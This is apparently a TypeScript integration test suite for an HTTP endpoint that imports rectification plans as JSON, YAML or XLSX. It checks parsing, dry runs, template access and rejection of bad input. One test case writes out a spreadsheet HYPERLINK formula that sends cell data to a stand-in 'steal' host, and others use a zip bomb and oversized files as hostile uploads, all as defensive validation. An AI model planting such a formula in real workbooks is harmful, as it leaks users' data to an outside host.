import { Workbook } from 'exceljs';
import { stringify } from 'yaml';
import { SHEET } from '../../libs/plan-io/src/ledger-layout';
import { XLSX_CONTENT_TYPE } from '../../libs/plan-io/src/plan-file-format';
import { planTemplateWorkbook } from '../../libs/plan-io/src/xlsx-template.writer';
import { aPlanDocument } from '../support/plan-fixtures';
import { RectifyHarness, startRectify } from '../support/rectify-harness';
import { zipBomb } from '../support/hostile-plan-files';
import { planRowCounts } from '../support/row-counts';
import { testEngine } from '../support/test-database';
import { uniqueCode } from '../support/unique';

const JSON_TYPE = { 'content-type': 'application/json' };
const YAML_TYPE = { 'content-type': 'application/yaml' };
const XLSX_TYPE = { 'content-type': XLSX_CONTENT_TYPE };

// The template with its plan code made unique (基本信息!B2), then edited.
async function workbook(
  edit: (wb: Workbook) => void = () => undefined,
): Promise<{ code: string; bytes: Buffer }> {
  const wb = new Workbook();
  await wb.xlsx.load((await planTemplateWorkbook()) as never);
  const code = uniqueCode('XL');
  wb.getWorksheet(SHEET.info)!.getCell('B2').value = code;
  wb.getWorksheet(SHEET.info)!.getCell('B8').value = `${code}-INSPECTION`;
  edit(wb);
  return { code, bytes: Buffer.from(await wb.xlsx.writeBuffer()) };
}

describe(`plan files in: JSON, YAML and XLSX over HTTP (${testEngine()})`, () => {
  let rectify: RectifyHarness;

  beforeAll(async () => {
    rectify = await startRectify();
  });
  afterAll(() => rectify?.stop());

  it('imports a YAML plan with Chinese deadlines and shows how it read them', async () => {
    const doc = aPlanDocument({ planCode: uniqueCode('YM'), due: '9月底前' });
    const r = await rectify.send('POST', '/plans', Buffer.from(stringify(doc)), YAML_TYPE);
    expect(r.status).toBe(201);
    expect(r.body).toMatchObject({ outcome: 'created', measures: 2, workflows: { started: { running: 2 } } });
    expect(r.body.deadlines[0]).toMatchObject({
      measureCode: 'P01-M1',
      written: '9月底前',
      date: '2019-09-30',
      location: expect.stringMatching(/^\d+:\d+$/),
    });
    const plan = await rectify.request('GET', `/plans/${doc.plan.code}`);
    expect(plan.body.categories[0].aspects[0].problems[0].measures[0].dueAt).toBe('2019-09-30T16:00:00.000Z');
  });

  it('imports the XLSX template as filled in, with root causes and methods', async () => {
    const { code, bytes } = await workbook();
    const r = await rectify.send('POST', '/plans', bytes, XLSX_TYPE);
    expect(r.status).toBe(201);
    expect(r.body).toMatchObject({ planCode: code, outcome: 'created', measures: 3 });
    const plan = await rectify.request('GET', `/plans/${code}`);
    expect(plan.body.categories[0].aspects[0].problems[0]).toMatchObject({
      rootCause: '对“两不愁、三保障”标准把握不严，动态监测不到位',
    });
  });

  it('answers a dry run for a new plan without writing anything', async () => {
    const before = await planRowCounts(rectify.db.dataSource);
    const { code, bytes } = await workbook();
    const r = await rectify.send('POST', '/plans?dryRun=true', bytes, XLSX_TYPE);
    expect(r.status).toBe(200);
    expect(r.body).toMatchObject({
      planCode: code,
      outcome: 'dry_run',
      diff: null,
      workflows: null,
      measures: 3,
    });
    expect(
      r.body.deadlines.map((d: { location: string; date: string }) => [d.location, d.date]),
    ).toContainEqual(['任务清单!O2', '2019-09-30']);
    expect(await planRowCounts(rectify.db.dataSource)).toEqual(before);
  });

  it('hands the office the template `rectify template` writes, and no one else', async () => {
    const office = await rectify.createUser('office');
    const r = await office.client.request('GET', '/plans/template.xlsx');
    expect(r.status).toBe(200);
    expect(r.headers.get('content-type')).toContain(XLSX_CONTENT_TYPE);
    expect(r.headers.get('content-disposition')).toBe('attachment; filename="plan-template.xlsx"');
    const wb = new Workbook();
    await wb.xlsx.load(r.body as never);
    const cli = new Workbook();
    await cli.xlsx.load((await planTemplateWorkbook()) as never);
    expect(wb.worksheets.map((s) => s.name)).toEqual(cli.worksheets.map((s) => s.name));
    expect(wb.getWorksheet(SHEET.tasks)!.getSheetValues()).toEqual(
      cli.getWorksheet(SHEET.tasks)!.getSheetValues(),
    );
    // It imports as it is: the dry run reads its example plan.
    const dry = await office.client.send('POST', '/plans?dryRun=true', r.body as Buffer, XLSX_TYPE);
    expect(dry.status).toBe(200);
    expect(dry.body).toMatchObject({ planCode: 'EXAMPLE-2019', outcome: 'dry_run', measures: 3 });

    const unit = await rectify.createUser('unit', { units: ['GS-HOUSING'] });
    expect((await unit.client.request('GET', '/plans/template.xlsx')).status).toBe(403);
    expect((await rectify.anonymous.request('GET', '/plans/template.xlsx')).status).toBe(401);
  });

  describe('refuses malformed input with a clear error, and the database stays as it was', () => {
    const yamlWith = (mutate: (m: Record<string, unknown>, d: ReturnType<typeof aPlanDocument>) => void) => {
      const doc = aPlanDocument({ planCode: uniqueCode('BAD') });
      mutate(doc.categories[0].aspects[0].problems[0].measures[0] as Record<string, unknown>, doc);
      return Buffer.from(stringify(doc));
    };
    const cases: [
      string,
      () => Promise<{ bytes: Buffer; headers: Record<string, string> }>,
      number,
      string,
      string,
    ][] = [
      [
        'wrong types (YAML)',
        async () => ({
          bytes: yamlWith((m) => ((m.indicators as { target: unknown }[])[0].target = '两万')),
          headers: YAML_TYPE,
        }),
        400,
        'VALIDATION_FAILED',
        'indicators[0].target',
      ],
      [
        'an unknown unit (XLSX)',
        async () => ({
          bytes: (await workbook((wb) => (wb.getWorksheet(SHEET.tasks)!.getCell('M3').value = '省民政厅')))
            .bytes,
          headers: XLSX_TYPE,
        }),
        400,
        'VALIDATION_FAILED',
        '任务清单!M3',
      ],
      [
        'duplicate codes (XLSX)',
        async () => ({
          bytes: (await workbook((wb) => (wb.getWorksheet(SHEET.tasks)!.getCell('I4').value = 'P14-M1')))
            .bytes,
          headers: XLSX_TYPE,
        }),
        400,
        'VALIDATION_FAILED',
        '任务清单!I4',
      ],
      [
        'an impossible date (YAML)',
        async () => ({ bytes: yamlWith((m) => (m.due = '2019-02-30')), headers: YAML_TYPE }),
        400,
        'VALIDATION_FAILED',
        'measures[0].due',
      ],
      [
        'a formula-injection cell (XLSX)',
        async () => ({
          bytes: (
            await workbook(
              (wb) =>
                (wb.getWorksheet(SHEET.tasks)!.getCell('J2').value = {
                  formula: 'HYPERLINK("http://example.invalid/steal?d="&A1,"详情")',
                  result: '详情',
                }),
            )
          ).bytes,
          headers: XLSX_TYPE,
        }),
        400,
        'VALIDATION_FAILED',
        '任务清单!J2',
      ],
      [
        'malformed JSON',
        async () => ({ bytes: Buffer.from('{\n  "formatVersion": 1,\n  "plan": }'), headers: JSON_TYPE }),
        400,
        'VALIDATION_FAILED',
        '3:11',
      ],
      [
        'a file that is not a workbook',
        async () => ({ bytes: Buffer.from('PK not really'), headers: XLSX_TYPE }),
        400,
        'VALIDATION_FAILED',
        'XLSX',
      ],
      [
        'a content type that is not a plan format',
        async () => ({ bytes: Buffer.from('a,b\n1,2'), headers: { 'content-type': 'text/csv' } }),
        415,
        'UNSUPPORTED_MEDIA_TYPE',
        '',
      ],
    ];
    it.each(cases)('%s', async (_name, make, status, code, where) => {
      const before = await planRowCounts(rectify.db.dataSource);
      const { bytes, headers } = await make();
      const r = await rectify.send('POST', '/plans', bytes, headers);
      expect(r.status).toBe(status);
      expect(r.body.code).toBe(code);
      expect(typeof r.body.message).toBe('string');
      if (where)
        expect(
          [
            r.body.message,
            ...r.body.details.map((d: { path: string; location?: string }) => `${d.path} ${d.location}`),
          ].join('\n'),
        ).toContain(where);
      expect(await planRowCounts(rectify.db.dataSource)).toEqual(before);
    });

    it('a 50 MB file: 413 with a JSON body, refused by size before parsing', async () => {
      const before = await planRowCounts(rectify.db.dataSource);
      const big = Buffer.alloc(50 * 1024 * 1024, 0x20);
      const started = Date.now();
      const r = await rectify.send('POST', '/plans', big, YAML_TYPE);
      expect(r.status).toBe(413);
      expect(r.body).toMatchObject({ code: 'PAYLOAD_TOO_LARGE' });
      expect(typeof r.body.message).toBe('string');
      expect(Date.now() - started).toBeLessThan(30_000);
      expect(await planRowCounts(rectify.db.dataSource)).toEqual(before);
    });

    it.each<[string, () => Buffer, Record<string, string>, RegExp]>([
      ['an XLSX zip bomb', zipBomb, XLSX_TYPE, /compressed \d+:1/],
      [
        'a 6 MB YAML file',
        () => Buffer.from(`plan:\n${'  - x\n'.repeat(1_100_000)}`),
        YAML_TYPE,
        /YAML plan files may be at most 5\.0 MB/,
      ],
    ])('%s: 413 naming the limit, before parsing, nothing written', async (_, file, type, limit) => {
      const before = await planRowCounts(rectify.db.dataSource);
      const r = await rectify.send('POST', '/plans', file(), type);
      expect(r.status).toBe(413);
      expect(r.body).toMatchObject({ code: 'PAYLOAD_TOO_LARGE' });
      expect(JSON.stringify(r.body)).toMatch(limit);
      expect(await planRowCounts(rectify.db.dataSource)).toEqual(before);
    });
  });
});
